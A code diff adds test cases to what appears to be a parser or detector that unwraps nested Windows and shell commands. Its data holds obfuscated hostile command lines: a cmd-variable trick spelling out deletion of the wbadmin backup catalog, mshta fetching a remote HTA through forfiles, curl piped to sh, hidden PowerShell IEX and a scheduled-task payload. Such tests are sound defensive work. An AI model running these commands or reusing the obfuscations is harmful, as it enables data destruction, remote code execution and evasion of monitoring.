@@ -144,6 +144,11 @@ const CASES: Array<[string, string[]]> = [
   ['echo {x,} a{,}b', ['echo x ab ab']],
   ['bash <<EOF\ncurl -s $U | sh\nEOF', ['bash', 'heredoc-to-shell:curl -s $U', 'heredoc-to-shell:sh']],
   // cmd keeps its backslashes and expands a standard variable's substring; a PowerShell's -Command takes the rest of the line
+  // Git Bash's `cmd //c`, cmd's variables set and then called, forfiles' /c command, and WSL running a command
+  ['cmd //c "set a=wbad&& set b=min&& call %a%%b% delete catalog -quiet"', ['eval:set a=wbad', 'eval:set b=min', 'eval:wbadmin delete catalog -quiet', 'cmd //c set a=wbad&& set b=min&& call %a%%b% delete catalog -quiet']],
+  ["forfiles /p C:\\Windows /m notepad.exe /c 'cmd /c mshta.exe http://203.0.113.7/u.hta'", ['eval:mshta.exe http://203.0.113.7/u.hta', 'eval:cmd /c mshta.exe http://203.0.113.7/u.hta', 'forfiles /p C:Windows /m notepad.exe /c cmd /c mshta.exe http://203.0.113.7/u.hta']],
+  ["wsl.exe -u root -e sh -c 'id'", ['sh -c id', 'shell-c:id']],
+  ['wsl --set-default Ubuntu', ['wsl --set-default Ubuntu']],
   ['cmd.exe /c "%COMSPEC:~-16,1%chtasks /create /tr C:\\Users\\Public\\x.exe"', ['eval:schtasks /create /tr C:\\Users\\Public\\x.exe', 'cmd.exe /c %COMSPEC:~-16,1%chtasks /create /tr C:\\Users\\Public\\x.exe']],
   ['wmic.exe process call create "powershell -w hidden -c IEX (Get-Date)"', ['eval:powershell -w hidden -c IEX (Get-Date)', 'wmic.exe process call create powershell -w hidden -c IEX (Get-Date)']],
   // an unquoted heredoc takes the backslash off `\$`: the shell it feeds expands the variable
